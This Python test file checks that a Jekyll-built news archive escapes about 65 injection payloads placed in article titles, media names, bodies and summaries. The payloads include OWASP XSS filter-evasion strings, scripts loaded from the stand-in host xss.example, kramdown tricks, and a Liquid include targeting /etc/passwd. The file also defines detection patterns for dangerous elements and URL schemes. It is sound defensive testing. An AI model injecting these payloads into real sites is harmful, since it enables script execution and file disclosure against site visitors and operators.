"""Nothing executable reaches the built site: XSS payloads in every field, built with real Jekyll.

Each payload of the corpus below (the OWASP XSS filter-evasion classes, Markdown and kramdown
injection, Liquid) goes into an East Money article page as its title, its media name (which
becomes the category page, its title and the back-link label) and its body (both as markup for
the sanitizer and as text), and into a 7x24 item as its title and summary. The pages are read by
the real parser, the items go through the real pipelines, and the site is built by
`scrapy archive build` (the bundled template, real Jekyll, real Pagefind). Every built page (posts,
category pages and their next pages, the home page, the emnews index, months, sources, search) is
then parsed: no script element but the search page's own, no iframe, object, embed, svg or math
element, no event handler attribute, no javascript:, data: or vbscript: URL, and no Liquid was run.
"""

import html
import re
import shutil
import subprocess
from datetime import datetime, timedelta

import lxml.html
import pytest
from scrapy.utils.test import get_crawler

from crawler.items import SHANGHAI, ListEntry
from crawler.parsers import ParseError, parse_article
from crawler.spiders.eastmoney import EastMoneySpider
from crawler.spiders.eastmoney_724 import FastNewsSpider
from fixtures.hostile.build import page
from fixtures.testing import scrapy_command
from pipelines.dedupe import DedupePipeline
from pipelines.validate import ValidatePipeline
from pipelines.write import WritePostPipeline
from tests.conftest import REPO, need_tool, project_settings

pytestmark = pytest.mark.slow  # real pipelines into a real `scrapy archive build` (Jekyll)

CANARY = "LIQUID-WAS-RUN"  # a _config.yml value: seen on a page only if a payload's Liquid ran

PAYLOADS = [
    # OWASP XSS filter evasion: plain, case, quotes, encodings, whitespace, malformed tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">div</DIV>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD>t</TD></TABLE>",
    '"><script>alert(document.cookie)</script>',
    "'><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">go</button></form>',
    "<details open ontoggle=alert(1)>",
    "<xss onfocus=alert(1) autofocus tabindex=1>x</xss>",
    '<video><source onerror="alert(1)"></video>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e %3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # Markdown and kramdown
    "[点我](javascript:alert(1)) ![图](javascript:alert(2)) <javascript:alert(3)>",
    "[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1))",
    "[引用][x]\n\n[x]: javascript:alert(1)",
    '*强调*{: onmouseover="alert(1)"} **粗**{:onclick="alert(2)"}',
    '{: .cls onclick="alert(1)"}\n段落',
    "{::nomarkdown}<script>alert(1)</script>{:/}",
    '{::options parse_block_html="true" /}<div markdown="1"><script>alert(1)</script></div>',
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "$$\\href{javascript:alert(1)}{x}$$",
    "脚注[^1]\n\n[^1]: <script>alert(1)</script>",
    "    <script>alert('indented code')</script>",
    "```\n<script>alert('fenced')</script>\n```",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "# 标题 {#id onclick=alert(1)}",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    # Liquid
    "{{ site.finews_canary }}",
    "{% raw %}{{ site.finews_canary }}{% endraw %} {% endraw %}",
    "{%- include ../../../../etc/passwd -%}",
    "{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}",
    "{{ '<script>alert(1)</script>' }}",
    "{% comment %} unclosed",
]

# The search page's own script (site/search.html): the template's search.js (it imports Pagefind's pagefind.js).
TEMPLATE_SCRIPTS = {("/assets/search.js", "")}
BAD_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base", "form"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "data", "xlink:href", "srcset",
                  "lowsrc", "dynsrc", "cite", "longdesc", "usemap", "codebase", "manifest"}  # fmt: skip
BAD_SCHEME = re.compile(r"^\s*(?:javascript|data|vbscript):", re.I)
CONTROL = re.compile(r"[\x00-\x20\x7f]+")
FIRST = datetime(2025, 11, 20, 10, 30, tzinfo=SHANGHAI)


def item_through_pipelines(crawler, item) -> bool:
    """The item through validate -> dedupe -> write, as the crawl does; whether it was written."""
    from scrapy.exceptions import DropItem

    try:
        for pipeline in (ValidatePipeline, DedupePipeline, WritePostPipeline):
            item = pipeline.from_crawler(crawler).process_item(item)
    except DropItem:
        return False
    return True


def crawler_of(spidercls, site):
    crawler = get_crawler(spidercls, project_settings(FINEWS_ARCHIVE_DIR=str(site)))
    crawler.stats.open_spider()
    return crawler


def articles(number: int, payload: str):
    """The articles a payload makes: in the title, the media name and the body (as markup and as text)."""
    text = html.escape(payload, quote=False)
    for field, (title, source, body) in enumerate(
        [
            (text, "证券时报网", "<p>正文</p>"),
            ("媒体名称", text, "<p>正文</p>"),
            ("正文标记", "证券时报网", f"<p>正文</p>{payload}<p>结尾</p>"),
            ("正文文字", "证券时报网", f"<p>{text}</p>"),
        ]
    ):
        article_id = f"2025112000{number:04d}{field:04d}"
        moment = FIRST + timedelta(minutes=number * 4 + field)
        markup = page(title=title, time=f"{moment:%Y年%m月%d日 %H:%M}", source=source, body=body)
        url = f"https://finance.eastmoney.com/a/{article_id}.html"
        try:
            yield parse_article(markup, url, ListEntry(article_id))
        except ParseError:
            continue  # a page the parser refuses (counted by a crawl): nothing of it is published


def fast_news(number: int, payload: str):
    """A 7x24 item with the payload as its title and its summary, with and without its article page."""
    moment = FIRST + timedelta(minutes=number * 4)
    for field, (title, summary) in enumerate([(payload, "摘要"), ("快讯", payload)]):
        entry = ListEntry(f"2025112001{number:04d}{field:04d}", title=title, published_at=moment, summary=summary)
        yield FastNewsSpider.news(entry, [] if field else ["正文"], "" if field else payload)


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """An archive of every payload's posts, built by `scrapy archive build`: (posts written, _site)."""
    need_tool("jekyll")
    site = tmp_path_factory.mktemp("xss") / "site"
    site.mkdir()
    shutil.copy(REPO / "site" / "_config.yml", site / "_config.yml")  # the archive's own, with a canary
    with open(site / "_config.yml", "a", encoding="utf-8") as config:
        config.write(f"finews_canary: {CANARY}\n")
    per_media, rolling = crawler_of(EastMoneySpider, site), crawler_of(FastNewsSpider, site)
    written = 0
    for number, payload in enumerate(PAYLOADS):
        written += sum(item_through_pipelines(per_media, article) for article in articles(number, payload))
        written += sum(item_through_pipelines(rolling, news) for news in fast_news(number, payload))
    command = scrapy_command("archive", "build", settings={"FINEWS_ARCHIVE_DIR": site})
    build = subprocess.run(command, cwd=REPO, capture_output=True, text=True, timeout=600)
    assert build.returncode == 0, (build.stdout + build.stderr)[-3000:]
    return written, site / "_site"


def page_kind(relative: str) -> str:
    if relative == "index.html":
        return "home"
    if relative.startswith("pagefind/"):
        return "pagefind"
    if re.match(r"\d{4}/\d\d/\d\d/", relative):
        return "post"
    return relative.split("/", 1)[0]  # category, emnews


def problems(document) -> list[str]:
    """What in a parsed page could run script."""
    found = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower().rsplit("}", 1)[-1]
        if tag == "script" and (element.get("src", ""), (element.text or "").strip()) in TEMPLATE_SCRIPTS:
            continue
        if tag in BAD_ELEMENTS:
            found.append(f"<{tag}>")
        if tag == "meta" and element.get("http-equiv", "").lower() == "refresh":
            found.append("<meta http-equiv=refresh>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}=>")
            if name in URL_ATTRIBUTES and BAD_SCHEME.match(CONTROL.sub("", value)):
                found.append(f"<{tag} {name}={value[:40]!r}>")
            if name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
                found.append(f"<{tag} style={value[:40]!r}>")
    return found


def test_the_corpus_is_published(built):
    written, site = built
    assert len(PAYLOADS) >= 60
    assert written >= 5 * len(PAYLOADS)  # most payloads made posts: the checks below see them
    kinds = {page_kind(str(p.relative_to(site))) for p in site.rglob("*.html")}
    assert {"post", "category", "home", "emnews", "search.html", "sources.html", "archive"} <= kinds


def test_no_built_page_can_run_script(built):
    _, site = built
    pages = sorted(site.rglob("*.html"))
    found = {}
    for path in pages:
        document = lxml.html.fromstring(path.read_bytes())
        if problems(document):
            found[str(path.relative_to(site))] = problems(document)
    assert found == {}


def test_no_liquid_of_a_payload_ran(built):
    _, site = built
    assert not [p for p in site.rglob("*.html") if CANARY in p.read_text(encoding="utf-8")]


def test_payloads_are_shown_as_text(built):
    """Escaped, not dropped: a reader sees what East Money sent (titles, media names, summaries)."""
    _, site = built
    text = "".join(lxml.html.fromstring(p.read_bytes()).text_content() for p in site.rglob("*.html"))
    for payload in ("<script>alert(1)</script>", "[点我](javascript:alert(1))", "{{ site.finews_canary }}"):
        assert payload in text
